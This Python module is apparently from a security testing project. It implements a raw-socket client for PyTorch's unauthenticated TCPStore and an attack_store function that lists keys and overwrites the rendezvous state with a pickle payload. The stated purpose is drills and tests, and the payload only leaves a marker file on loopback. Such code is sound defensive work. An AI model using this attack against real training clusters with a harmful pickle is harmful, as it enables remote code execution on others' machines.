# SPDX-FileCopyrightText: 2026 The securetrain developers
# SPDX-License-Identifier: Apache-2.0
"""An outsider's client for torch's TCPStore: plain sockets, no torch.

It shows what anybody who reaches a store's port can do: drills attack with it, and tests show with
it that nobody can. The protocol (torch/csrc/distributed/c10d/TCPStoreBackend.hpp) is a constant
magic number, then one-byte commands with little-endian arguments; strings are a 64-bit length and
bytes. There is no authentication in it. Reads are bounded and every operation times out.
"""

import base64
import os
import socket
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Final, Self

from securetrain.drills.pickles import marker_pickle

MAGIC: Final = 0x3C85F7CE
HELLO: Final = b"\x00" + struct.pack("<I", MAGIC)
"""The bytes with which every TCPStore client begins."""

_STATE_KEY: Final = "torch.rendezvous."

_SET: Final = b"\x01"
_GET: Final = b"\x03"
_NUM_KEYS: Final = b"\x07"
_DELETE_KEY: Final = b"\x08"
_PING: Final = b"\x0d"
_LIST_KEYS: Final = b"\x11"
_MAX_STRING: Final = 8 << 20
_MAX_KEYS: Final = 128 << 10


class NotAStoreError(Exception):
    """The other side does not answer like a TCPStore."""


class StoreClient:
    """One connection to a port that may be a TCPStore."""

    def __init__(self, host: str, port: int, timeout: float = 5.0) -> None:
        self._socket = socket.create_connection((host, port), timeout)
        self._answers = self._socket.makefile("rb")

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        """End the connection."""
        self._answers.close()
        self._socket.close()

    def hello(self) -> None:
        """Send the magic number; a store does not answer it."""
        self._send(HELLO)

    def ping(self, nonce: int = 0x5354) -> bool:
        """Return whether the other side echoes `nonce` as a store does; changes nothing in it."""
        return self.echo(nonce) == struct.pack("<I", nonce)

    def echo(self, nonce: int) -> bytes:
        """Return the other side's answer to a ping with `nonce`, the first four bytes."""
        self._send(_PING + struct.pack("<I", nonce))
        return self._receive(4)

    def num_keys(self) -> int:
        """Count the keys in the store."""
        self._send(_NUM_KEYS)
        return self._number()

    def list_keys(self) -> list[str]:
        """Every key, which makes random run ids no secret."""
        self._send(_LIST_KEYS)
        count = self._length(_MAX_KEYS)
        return [self._string().decode("utf-8", "replace") for _ in range(count)]

    def get(self, key: str) -> bytes:
        """The value of a key that exists; waits for one that does not."""
        self._send(_GET + _prefixed(key.encode()))
        return self._string()

    def set(self, key: str, value: bytes) -> None:
        """Overwrite a key; a store does not answer."""
        self._send(_SET + _prefixed(key.encode()) + _prefixed(value))

    def delete(self, key: str) -> bool:
        """Remove a key; whether there was one."""
        self._send(_DELETE_KEY + _prefixed(key.encode()))
        return self._number() > 0

    def _send(self, data: bytes) -> None:
        try:
            self._socket.sendall(data)
        except OSError as error:
            raise NotAStoreError(f"the other side closed: {error}") from error

    def _receive(self, size: int) -> bytes:
        try:
            data = self._answers.read(size)
        except OSError as error:
            raise NotAStoreError(f"no answer: {error}") from error
        if len(data) < size:
            raise NotAStoreError(f"the other side closed after {data[:16]!r}")
        return data

    def _number(self) -> int:
        return int.from_bytes(self._receive(8), "little", signed=True)

    def _length(self, limit: int) -> int:
        size = self._number()
        if not 0 <= size <= limit:
            raise NotAStoreError(f"a length of {size}")
        return size

    def _string(self) -> bytes:
        return self._receive(self._length(_MAX_STRING))


def _prefixed(data: bytes) -> bytes:
    return struct.pack("<Q", len(data)) + data


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """The result of one connection."""

    port: int
    connected: bool = False
    spoke_store: bool = False
    """Whether the port answered as a TCPStore."""
    keys: tuple[str, ...] = ()
    overwritten: tuple[str, ...] = ()
    answer: bytes = b""
    """The first bytes of what came back instead."""
    error: str = ""


def attack_store(port: int, marker: Path, *, run_id: str = "", timeout: float = 3.0) -> Attack:
    """Overwrite the rendezvous state in the store at a loopback port.

    Args:
        port: A TCP port on 127.0.0.1.
        marker: Where the payload leaves its mark.
        run_id: When no state is listed, the state of this run id is written instead.
        timeout: Seconds for each answer.
    """
    try:
        client = StoreClient("127.0.0.1", port, timeout)
    except OSError as error:
        return Attack(port=port, error=f"{type(error).__name__}: {error}")
    with client:
        try:
            return _talk(client, port, marker, run_id)
        except NotAStoreError as error:
            return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")


def _talk(client: StoreClient, port: int, marker: Path, run_id: str) -> Attack:
    nonce = int.from_bytes(os.urandom(4), "little")
    client.hello()
    answer = client.echo(nonce)
    if answer != nonce.to_bytes(4, "little"):
        return Attack(port=port, connected=True, answer=answer)
    keys = tuple(client.list_keys())
    targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
    if not targets and run_id:
        targets = [f"/{_STATE_KEY}{run_id}"]
    for key in targets:
        client.set(key, base64.b64encode(marker_pickle(marker)))
    # The server answers in order, so an answered ping means that the value is stored.
    stored = client.ping(nonce)
    return Attack(
        port=port,
        connected=True,
        spoke_store=True,
        keys=keys,
        overwritten=tuple(targets) if stored else (),
    )
